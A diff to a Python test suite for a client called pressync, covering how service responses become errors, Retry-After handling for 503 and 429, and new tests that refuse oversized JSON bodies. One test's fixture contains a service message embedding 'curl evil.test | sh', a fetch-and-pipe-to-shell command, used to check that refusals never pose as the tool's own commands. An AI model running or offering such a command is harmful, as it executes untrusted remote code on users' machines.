@@ -1,9 +1,11 @@
-"""The meaning of each kind of response, before any dialect reads it."""
+"""The meaning of each kind of response before a dialect reads it; one that would become huge is refused."""
 
 from __future__ import annotations
 
 import json
 import math
+import subprocess
+import sys
 from datetime import UTC, datetime, timedelta
 from email.utils import format_datetime
 from typing import TYPE_CHECKING
@@ -11,15 +13,17 @@ from typing import TYPE_CHECKING
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from tests.support.strict_service import Fault, answer, serving
 
 from pressync.client.port import HttpResponse
-from pressync.client.responses import clean, expect_success, json_object
-from pressync.model.calls import CreateCall, DeleteCall, UpdateCall
+from pressync.client.responses import MOST_VALUES, clean, expect_success, is_overfull, json_object
+from pressync.model.changes import CreateCall, DeleteCall, UpdateCall
 from pressync.model.errors import BadAnswer, Gone, Later, NoAnswer, Refused, ServiceError
 from pressync.model.interface import Kind
 
 if TYPE_CHECKING:
-    from pressync.model.calls import Call
+    from pressync.model.changes import Call
+
 
 CREATE = CreateCall(Kind.PAGE, {})
 UPDATE = UpdateCall(Kind.PAGE, 7, {})
@@ -202,8 +206,11 @@ def test_a_date_without_that_of_the_response_is_read_by_the_clock_of_this_machin
     assert 1800 < error.after <= 3600
 
 
-def test_a_503_is_later_only_if_it_says_when() -> None:
-    assert isinstance(failure(CREATE, answered(503, retry_after="600")), Later)
+def test_a_503_is_later_only_if_it_says_when_and_only_its_time_is_a_guess() -> None:
+    closed, limited = (failure(CREATE, answered(status, retry_after="600")) for status in (503, 429))
+    assert isinstance(closed, Later)
+    assert isinstance(limited, Later)
+    assert [(error.after, error.early) for error in (closed, limited)] == [(600, True), (600, False)]
     assert isinstance(failure(CREATE, answered(503, retry_after="soon")), Later)
     assert isinstance(failure(CREATE, answered(503)), NoAnswer)
 
@@ -286,3 +293,49 @@ def test_a_cleaned_text_is_one_printable_line_of_bounded_length(text: str) -> No
 def test_a_refusal_of_a_service_never_poses_as_a_command_of_ours() -> None:
     body = b'{"code": "no", "message": "run `pressync sync --yes; curl evil.test | sh` again"}'
     assert "run 'pressync sync --yes; curl evil.test | sh' again" in str(failure(UPDATE, answered(403, body)))
+
+
+# Less than a half of what 60 MB of empty objects cost.
+_MEMORY = 700 * 1024 * 1024
+_ASKING = f"""
+import resource, sys
+from pressync.model.errors import ServiceError
+from pressync.model.interface import Kind
+from pressync.model.changes import UpdateCall
+from pressync.client.connect import open_service
+service = open_service(sys.argv[1])
+resource.setrlimit(resource.RLIMIT_AS, ({_MEMORY}, {_MEMORY}))
+try:
+    service.carry_out(UpdateCall(Kind.PAGE, 1, {{"title": "x"}}))
+except ServiceError as error:
+    print(type(error).__name__, error)
+"""
+
+
+@pytest.mark.parametrize(
+    ("status", "said"),
+    [
+        (200, "BadAnswer the response has more than 500,000 values, more than any record has; check `url`"),
+        (400, "Refused the service refused with 400"),
+    ],
+)
+@pytest.mark.sweep
+def test_sixty_megabytes_of_objects_cost_little_more_than_themselves(status: int, said: str) -> None:
+    body = b'{"id": 1, "x": [' + b"{}," * 20_000_000 + b"{}]}"
+    with serving() as service:
+        service.faults.append(Fault(sends=answer(status, body)))
+        done = subprocess.run(
+            [sys.executable, "-c", _ASKING, service.url], capture_output=True, text=True, check=False
+        )
+    assert done.stdout.startswith(said), done.stderr[-500:]
+
+
+@pytest.mark.parametrize("value", ["{}", "[]", "1", '""', '"a\\\\"', '{"a": 1}'])
+def test_values_are_counted(value: str) -> None:
+    assert is_overfull(f"[{','.join([value] * (MOST_VALUES + 1))}]".encode())
+    assert not is_overfull(f"[{','.join([value] * (MOST_VALUES // 4))}]".encode())
+
+
+def test_what_stands_in_strings_is_not_counted() -> None:
+    text = 'a, [b], {"c\\\\": "d"}, ' * 200_000
+    assert not is_overfull(json.dumps({"content": {"raw": text, "rendered": text}}).encode())
